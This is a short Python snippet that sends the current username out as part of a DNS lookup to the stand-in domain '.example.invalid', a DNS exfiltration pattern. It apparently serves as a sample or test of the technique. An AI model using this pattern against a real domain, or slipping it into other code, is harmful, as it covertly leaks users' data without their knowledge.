import os
import socket

socket.gethostbyname(os.environ["USER"] + ".example.invalid")
